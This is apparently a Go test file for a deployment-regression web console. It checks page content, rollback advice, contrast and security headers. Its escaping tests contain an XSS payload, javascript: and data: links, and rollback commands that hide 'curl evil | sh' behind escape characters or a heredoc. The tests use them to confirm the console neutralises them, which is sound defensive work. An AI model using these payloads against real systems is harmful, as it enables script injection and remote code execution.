package consoleextension

import (
	"fmt"
	"math"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/deployloop/deployloop/internal/event"
	"github.com/deployloop/deployloop/internal/ledger"
)

// words is the text of a page: tags out, entities of interest back, white space collapsed.
func words(html string) string {
	html = regexp.MustCompile(`(?s)<(script|style)\b.*?</(script|style)>`).ReplaceAllString(html, " ")
	html = regexp.MustCompile(`<[^>]*>`).ReplaceAllString(html, " ")
	html = strings.NewReplacer("&#39;", "'", "&#34;", `"`, "&#43;", "+", "&lt;", "<", "&gt;", ">", "&amp;", "&").Replace(html)
	return strings.Join(strings.Fields(html), " ")
}

func page200(t *testing.T, h http.Handler, target string) string {
	t.Helper()
	w := get(t, h, target)
	require.Equal(t, http.StatusOK, w.Code, "%s: %s", target, w.Body)
	require.Equal(t, "text/html; charset=utf-8", w.Header().Get("Content-Type"))
	return w.Body.String()
}

func TestPagesTell(t *testing.T) {
	l := ledger.New(ledger.Limits{})
	id := afternoon{noon}.play(t, l)
	h := handler(t, l)
	for _, c := range []struct {
		path string
		want []string
		not  []string
	}{
		{"/", []string{"Services seen 4", "Open alerts 1", "Watched now 1", "1 regressed", "2 healthy", "checkout 1.42.0 production", "Round totals to cents in the cart by Lin Zhao",
			"POST /cart/checkout errors 0.21% → 4.8%", "Not deployed yet", "calibrating", "mode advise", "How sure: 1 of 1,311 windows in which nothing was deployed"}, nil},
		{"/?service=search", []string{"search 0.9.4", "Not enough traffic to tell"}, []string{"Round totals", "Not deployed yet"}},
		{"/?service=nobody", []string{"No deployment matches"}, []string{"search 0.9.4"}},
		{"/deployments/" + id, []string{"checkout got worse in production", "61.3 nats of evidence; 6.91 are needed", "about 310 users", "1.41.3 → 1.42.0",
			"kubectl -n shop rollout undo deployment/checkout --to-revision=41", "git revert " + revision(5), "Compare with what ran before",
			"+4.6 pp (×23)", "95% CI +4.1 pp … +5.2 pp", "within tolerance", "better", "91%", "the stack's top frame, cart/total.ts:88, lies in lines it changed", "+ const total = rule.digits",
			"only in the new version", "roundTotal services/checkout/cart/total.ts:88", "4bf92f3577b34da6a3ce929d0e0e4736", "checkout of cart c-88213 failed",
			"instances of 1.41.3 serving beside it", "6 instances of 1.41.3 serve beside 2 of 1.42.0", "First bad item to verdict 8s", "The mark comes from 1,311 windows", "0 of 412 windows", "Telemetry not used 12 items that came too late to be counted", "github deployment 774", "telemetry"}, nil},
		{"/changes/" + revision(5), []string{"Round totals to cents in the cart", "Lin Zhao", "services/checkout/cart/total.ts", "checkout 1.42.0 in production", "Where it is suspected 91%", "Builds and tests"}, nil},
		{"/changes/" + revision(3)[:7], []string{"Move price rules", "among other commits"}, nil},
		{"/alerts", []string{"since " + event.ShortRevision(revision(5)) + " went out at 14:03Z", "2 symptoms: ", "Roll back kubectl -n shop rollout undo deployment/checkout --to-revision=41", "id " + event.AnomalyID(id, event.KindDeployment, "", ""), "rolled back", "Rolled back to 0.9.2 at 12:31Z; errors are back to 0.2%"}, []string{"Mode is shadow"}},
		{"/coverage", []string{"No commit: set vcs.ref.head.revision", "127.0.0.1:4317", "localhost:4318", "Alerts go to Alertmanager at 127.0.0.1:9093"}, []string{"s3cret", "user:pw", "pw@"}},
	} {
		t.Run(c.path, func(t *testing.T) {
			html := page200(t, h, c.path)
			text := words(html)
			for _, want := range c.want {
				assert.Contains(t, text, want)
			}
			for _, not := range c.not {
				assert.NotContains(t, html, not)
			}
			assert.NotRegexp(t, `\son\w+="|style="|<script>|<style|ZgotmplZ|%!`, html, "inline script or style, or a failed template")
		})
	}
}

// Beside the suspect stand the lines that the error points to, who wrote and who
// owns them, where they were reviewed, the way back, and who else feels it.
func TestSuspectsInContext(t *testing.T) {
	l := ledger.New(ledger.Limits{})
	id := afternoon{noon}.play(t, l)
	v, ok := l.Verdict(id)
	require.True(t, ok)
	v.At = v.At.Add(time.Second)
	s := &v.Suspicion.Suspects[0]
	s.PointedBy, s.Owners = "roundTotal (services/checkout/cart/total.ts:88)", []string{"@acme/cart", "@acme/money"}
	v.Affected = []event.Affected{{Service: "web", Calls: "checkout", Requests: 2900, Failed: 348, Share: .12, Before: .001}}
	v.Exclusive = &event.Exclusive{Signal: event.SignalErrors, Requests: 214, Own: .28, Share: 1, Detail: "errors without a failed call: 28.0% of 214 requests, 0% before; with one: 0%, 0% before"}
	l.RecordVerdict(v)
	html := page200(t, handler(t, l), "/deployments/"+id)
	text := words(html)
	for _, want := range []string{
		"services/checkout/cart/total.ts:88, where roundTotal (services/checkout/cart/total.ts:88) points @@ -83,8 +83,10 @@", "+ const total = rule.digits",
		"Lin Zhao, owned by @acme/cart, @acme/money, ", "pull request", "git revert " + revision(5),
		"Callers that feel it web: 12% of 2,900 calls to checkout fail (0.1% before)",
		"Its own, or of its calls errors without a failed call: 28.0% of 214 requests",
		"roundTotal services/checkout/cart/total.ts:88",
	} {
		assert.Contains(t, text, want)
	}
	assert.Contains(t, html, `href="https://forge.example/`+shop+`/pull/412"`)
	assert.NotContains(t, text, "No single commit is certain")

	v.At, v.Suspicion.Abstained = v.At.Add(time.Second), true
	l.RecordVerdict(v)
	text = words(page200(t, handler(t, l), "/deployments/"+id))
	assert.Contains(t, text, "No single commit is certain.")
	assert.NotContains(t, text, "git revert")
	assert.Contains(t, text, "91%", "the ranking is whole")
}

// Who opens the page of a regression that is over reads that it is, and how it
// ended, before anything else, and is not told to roll back once more.
func TestARegressionThatIsOver(t *testing.T) {
	for reason, offered := range map[event.ClosureReason]bool{event.ClosedRolledBack: false, event.ClosedRecovered: false, event.ClosedFixedBy: false, event.ClosedWaived: true} {
		t.Run(string(reason), func(t *testing.T) {
			l := ledger.New(ledger.Limits{})
			id := afternoon{noon}.play(t, l)
			h := handler(t, l)
			require.Contains(t, words(page200(t, h, "/deployments/"+id)), "rollout undo")
			require.True(t, l.CloseAnomaly(event.AnomalyID(id, event.KindDeployment, "", ""), event.Closure{Reason: reason, Detail: "1.42.0 does no harm since 14:05:02Z", At: noon}))

			text := words(page200(t, h, "/deployments/"+id))
			banner, _, _ := strings.Cut(text[strings.Index(text, "checkout got worse"):], "What to do")
			assert.Contains(t, banner, "1.42.0 does no harm since 14:05:02Z")
			assert.Equal(t, offered, strings.Contains(text, "rollout undo"))
			assert.Equal(t, reason != event.ClosedFixedBy, strings.Contains(text, "git revert"))
			said := strings.ReplaceAll(string(reason), "_", " ")
			assert.Contains(t, words(page200(t, h, "/?service=checkout")), "Regressed "+said)
			assert.Equal(t, reason == event.ClosedRolledBack, strings.Contains(text, "Deploy undone"))
		})
	}
}

// Telemetry that tells of nothing new is not told as lost, and a source that is
// missing is not read as telemetry that is.
func TestWhatIsMissing(t *testing.T) {
	l := ledger.New(ledger.Limits{})
	p := afternoon{noon}
	d := p.badDeployment(l)
	v := p.badVerdict(d)
	v.Losses = append(v.Losses, event.Loss{Name: "metric_points_repeating_spans", Count: 91})
	l.RecordVerdict(v)
	l.RecordDeployment(event.Deployment{Service: "search", Environment: "production", Version: "2.0.0", StartedAt: noon, Baseline: true, Sources: []event.Source{{Name: "telemetry", At: noon}}})
	h := handler(t, l)
	text := words(page200(t, h, "/deployments/"+d.ID))
	assert.Contains(t, text, "Telemetry not used 12 items that came too late to be counted Counted otherwise than it came 91 metric points of requests that spans")
	assert.NotContains(t, text, "repeating")
	text = words(page200(t, h, "/coverage"))
	assert.Contains(t, text, "missing seen by telemetry alone")
	assert.NotContains(t, text, "missing telemetry")
}

func TestFirstRun(t *testing.T) {
	h := handler(t, ledger.New(ledger.Limits{}))
	text := words(page200(t, h, "/"))
	for _, want := range []string{"Nothing has come by yet", "127.0.0.1:4317", "127.0.0.1:8088", "No service seen yet", "No deployment seen yet", "Mode is advise", "http://127.0.0.1:8090"} {
		assert.Contains(t, text, want)
	}
	assert.Contains(t, words(page200(t, h, "/alerts")), "No alert is open")
	for _, path := range []string{"/deployments/nope", "/changes/abcdef0123", "/nowhere"} {
		assert.Equal(t, http.StatusNotFound, get(t, h, path).Code, path)
	}
}

// hostile is text as an attacker would send it in a webhook or in telemetry.
const hostile = `<script>alert(1)</script>"><img src=x onerror=alert(2)>{{.}}`

func TestTextFromOutsideIsEscaped(t *testing.T) {
	l := ledger.New(ledger.Limits{})
	p := afternoon{noon}
	l.RecordChange(event.Change{Repository: hostile, Revision: revision(5), Message: hostile, Author: hostile, At: p.at(time.Hour), URL: "javascript:alert(3)", PullURL: "data:text/html,x",
		CompareURL: "JaVaScRiPt://x/%0aalert(1)", Added: []string{hostile}})
	l.RecordPipelineRun(event.PipelineRun{ID: "1", Pipeline: hostile, Task: hostile, Stage: event.StageBuild, Result: "success", Revision: revision(5), URL: "javascript:alert(4)", StartedAt: p.at(time.Hour)})
	d, _ := l.RecordDeployment(event.Deployment{Service: hostile, Environment: hostile, Version: hostile, PreviousVersion: hostile, Revision: revision(5), StartedAt: p.at(time.Minute), FirstSeenAt: p.at(time.Minute),
		URL: "javascript:alert(5)", RollbackCommand: "echo safe\ncurl known | sh -s '" + hostile + "'", Sources: []event.Source{{Name: hostile, ID: hostile, At: p.at(time.Minute)}}})
	v := p.badVerdict(d)
	v.Detail, v.ControlDetail = hostile, hostile
	for i := range v.Evidence {
		v.Evidence[i].Operation, v.Evidence[i].Detail = hostile, hostile
	}
	for i := range v.Related {
		r := &v.Related[i]
		r.Type, r.Message, r.Template, r.Fingerprint = hostile, hostile, hostile, hostile
		r.Frames = []event.Frame{{File: hostile, Function: hostile}}
		r.Examples = []event.Example{{Message: hostile, Stacktrace: hostile, TraceID: hostile, Instance: hostile, Attributes: []event.KeyText{{Key: hostile, Text: hostile}}}}
	}
	for i := range v.Suspicion.Suspects {
		sus := &v.Suspicion.Suspects[i]
		sus.Change.URL, sus.Change.PullURL, sus.Change.Message, sus.Hunk, sus.File, sus.Reasons = "javascript:alert(6)", "vbscript:x", hostile, "+"+hostile, hostile, []string{hostile}
	}
	v.Suspicion.Range, v.Suspicion.RangeNote, v.Losses = hostile, hostile, []event.Loss{{Name: hostile, Count: 1}}
	l.RecordVerdict(v)
	recordAlerts(l, v)

	h := handler(t, l, func(c *Config) { c.TraceURL = "https://traces.example/t/{trace_id}" })
	link := regexp.MustCompile(`(?i)(href|src|action)="([^"]*)"`)
	for _, path := range []string{"/", "/deployments/" + d.ID, "/changes/" + revision(5), "/alerts", "/coverage", "/?service=" + "%3Cscript%3Ealert(1)%3C/script%3E", "/nowhere%3Cscript%3E"} {
		html := get(t, h, path).Body.String()
		assert.NotContains(t, html, "<script>", path)
		assert.NotContains(t, html, "<img", path)
		for _, m := range link.FindAllStringSubmatch(html, -1) {
			assert.Regexp(t, `^(/|#|\?|https?://)`, m[2], "a link on %s", path)
			assert.NotRegexp(t, `(?i)^\s*(javascript|data|vbscript):`, m[2])
		}
	}
	html := page200(t, h, "/deployments/"+d.ID)
	assert.Contains(t, html, "&lt;script&gt;alert(1)&lt;/script&gt;")
	assert.Contains(t, html, `data-copy="echo safe &amp;&amp; curl known | sh -s &#39;&lt;script`, "a command is one line")
}

// A command that would not show as it runs is not offered, nor is a part of it.
func TestCommandThatHidesIsNotOffered(t *testing.T) {
	for _, command := range []string{"echo safe\x1b[2K\ncurl evil | sh", "echo safe\ncurl evil \u202e| sh", "echo safe\rcurl evil | sh", "cat <<EOF\ncurl evil | sh\nEOF"} {
		l := ledger.New(ledger.Limits{})
		p := afternoon{noon}
		d, _ := l.RecordDeployment(event.Deployment{Service: "checkout", Version: "1.42.0", PreviousVersion: "1.41.3", StartedAt: p.at(time.Minute), FirstSeenAt: p.at(time.Minute), RollbackCommand: command})
		require.Equal(t, command, d.RollbackCommand)
		l.RecordVerdict(p.badVerdict(d))
		html := page200(t, handler(t, l), "/deployments/"+d.ID)
		assert.NotContains(t, html, "curl evil")
		assert.NotContains(t, html, `data-copy="Deploy `, "words are not for pasting")
		assert.Contains(t, html, "Roll back")
	}
}

func TestFiguresThatAreNone(t *testing.T) {
	l := ledger.New(ledger.Limits{})
	p := afternoon{noon}
	d := p.badDeployment(l)
	v := p.badVerdict(d)
	v.Nats, v.Threshold = math.Inf(1), math.NaN()
	for i := range v.Evidence {
		v.Evidence[i].Before, v.Evidence[i].After, v.Evidence[i].Ratio = math.NaN(), math.Inf(1), math.NaN()
		v.Evidence[i].Interval = [2]float64{math.Inf(-1), math.NaN()}
	}
	v.Suspicion.Suspects[0].Probability = math.NaN()
	l.RecordVerdict(v)
	h := handler(t, l)
	html := page200(t, h, "/deployments/"+d.ID)
	assert.NotRegexp(t, `NaN|Inf\b`, html)
	w := get(t, h, "/api/v1/deployments/"+d.ID)
	assert.Contains(t, []int{http.StatusOK, http.StatusInternalServerError}, w.Code)
	assert.True(t, strings.HasPrefix(w.Body.String(), "{"), "still JSON: %s", w.Body)
}

func TestSecurityHeaders(t *testing.T) {
	l := ledger.New(ledger.Limits{})
	h := handler(t, l)
	for _, path := range []string{"/", "/api/v1/status", "/healthz", "/nowhere"} {
		w := get(t, h, path)
		assert.Equal(t, contentPolicy, w.Header().Get("Content-Security-Policy"), path)
		assert.Equal(t, "nosniff", w.Header().Get("X-Content-Type-Options"), path)
	}
	assert.NotContains(t, contentPolicy, "unsafe")

	// A name that was pointed at the loopback address is not answered.
	for hostHeader, want := range map[string]int{"127.0.0.1:8090": 200, "localhost:8090": 200, "[::1]:8090": 200, "evil.example:8090": 421, "10.0.0.5": 421, "Console.Example": 200} {
		r := httptest.NewRequest(http.MethodGet, "/healthz", nil)
		r.Host = hostHeader
		w := httptest.NewRecorder()
		handler(t, l, func(c *Config) { c.AllowedHosts = []string{"console.example"} }).ServeHTTP(w, r)
		assert.Equal(t, want, w.Code, hostHeader)
	}
	for _, method := range []string{http.MethodPost, http.MethodPut, http.MethodDelete} {
		r := httptest.NewRequest(method, "http://127.0.0.1:8090/api/v1/deployments", nil)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		assert.Equal(t, http.StatusMethodNotAllowed, w.Code, method)
		assert.Contains(t, w.Body.String(), `"fix"`)
	}
}

func TestAnUnchangedPageIsNotSentAgain(t *testing.T) {
	l := ledger.New(ledger.Limits{})
	afternoon{noon}.play(t, l)
	cfg := createDefaultConfig().(*Config)
	s := newSite(cfg, newHub(1), "v")
	s.show(l)
	now := noon
	s.now = func() time.Time { return now }
	h := s.handler()
	first := get(t, h, "/", fragmentHeader, "1")
	require.Equal(t, http.StatusOK, first.Code)
	require.NotContains(t, first.Body.String(), "<html", "only the part that changes")
	now = now.Add(time.Second) // relative times alone are no change
	again := get(t, h, "/", fragmentHeader, "1", "If-None-Match", first.Header().Get("ETag"))
	require.Equal(t, http.StatusNotModified, again.Code)
	require.Empty(t, again.Body.String())
	l.RecordChange(event.Change{Repository: shop, Revision: revision(50), Message: "news", At: now})
	require.Equal(t, http.StatusOK, get(t, h, "/", fragmentHeader, "1", "If-None-Match", first.Header().Get("ETag")).Code)
}

func TestAssets(t *testing.T) {
	h := handler(t, ledger.New(ledger.Limits{}))
	found := regexp.MustCompile(`/assets/[a-z]+\.[0-9a-f]{16}\.(css|js|svg)`).FindAllString(page200(t, h, "/"), -1)
	require.Len(t, found, 3)
	for _, path := range found {
		w := get(t, h, path)
		require.Equal(t, http.StatusOK, w.Code, path)
		require.Contains(t, w.Header().Get("Cache-Control"), "immutable")
		require.NotRegexp(t, `https?://`, strings.ReplaceAll(w.Body.String(), "http://www.w3.org/2000/svg", ""), "%s loads something from outside", path)
	}
	require.Equal(t, http.StatusNotFound, get(t, h, "/assets/..%2f..%2fconsole.go").Code)
}

// TestContrast holds every text colour to WCAG AA (4.5:1) on each surface
// that it is used on, in both palettes.
func TestContrast(t *testing.T) {
	css, err := assetFiles.ReadFile("assets/console.css")
	require.NoError(t, err)
	light, rest, _ := strings.Cut(string(css), "prefers-color-scheme: dark")
	dark, _, _ := strings.Cut(rest, "box-sizing")
	variable := regexp.MustCompile(`--([a-z-]+): #([0-9a-f]{6})`)
	palette := func(text string) map[string]float64 {
		p := map[string]float64{}
		for _, m := range variable.FindAllStringSubmatch(text, -1) {
			var r, g, b int
			_, err := fmt.Sscanf(m[2], "%02x%02x%02x", &r, &g, &b)
			require.NoError(t, err)
			p[m[1]] = luminance(r, g, b)
		}
		return p
	}
	for name, p := range map[string]map[string]float64{"light": palette(light), "dark": palette(dark)} {
		require.Len(t, p, 20, name)
		check := func(text, surface string, least float64) {
			a, b := p[text], p[surface]
			ratio := (max(a, b) + 0.05) / (min(a, b) + 0.05)
			assert.GreaterOrEqual(t, ratio, least, "%s: %s on %s", name, text, surface)
		}
		for _, surface := range []string{"bg", "surface", "sunken"} {
			for _, text := range []string{"ink", "soft", "accent", "regressed", "healthy", "watching", "inconclusive", "exonerated"} {
				check(text, surface, 4.5)
			}
		}
		for _, state := range []string{"regressed", "healthy", "watching", "inconclusive", "exonerated"} {
			check(state, state+"-bg", 4.5)
			check("ink", state+"-bg", 4.5)
		}
		check("ink", "added-bg", 4.5)
		check("ink", "removed-bg", 4.5)
		check("surface", "regressed", 4.5) // the badge
		check("strong-line", "surface", 3) // the edges of controls
	}
}

func luminance(rgb ...int) float64 {
	weights := []float64{0.2126, 0.7152, 0.0722}
	sum := 0.0
	for i, c := range rgb {
		v := float64(c) / 255
		if v <= 0.04045 {
			v /= 12.92
		} else {
			v = math.Pow((v+0.055)/1.055, 2.4)
		}
		sum += weights[i] * v
	}
	return sum
}

func TestRollbackIsAdvisedOnlyForHarm(t *testing.T) {
	p := afternoon{noon}
	for state, want := range map[event.VerdictState]string{
		event.Regressed: "Roll back kubectl", event.Watching: "To roll back without waiting for proof kubectl", event.Inconclusive: "To roll back without waiting for proof kubectl",
		event.Exonerated: "", event.Healthy: "",
	} {
		l := ledger.New(ledger.Limits{})
		d := p.badDeployment(l)
		v := p.badVerdict(d)
		v.State, v.Reason = state, ""
		l.RecordVerdict(v)
		text := words(page200(t, handler(t, l), "/deployments/"+d.ID))
		if want == "" {
			assert.NotContains(t, text, "rollout undo", state)
		} else {
			assert.Contains(t, text, want, state)
		}
	}
}

func TestRollbackLeadsBehindABadVersion(t *testing.T) {
	p := afternoon{noon}
	l := ledger.New(ledger.Limits{})
	d := p.badDeployment(l)
	v := p.badVerdict(d)
	v.WayBack = &event.WayBack{Regressed: []string{d.PreviousVersion}, Good: &event.Deployment{Version: "1.40.0"}}
	l.RecordVerdict(v)
	text := words(page200(t, handler(t, l), "/deployments/"+d.ID))
	assert.Contains(t, text, d.PreviousVersion+" had regressed too, the last good version is 1.40.0", "its own command stays, the page says what it leads to")
}
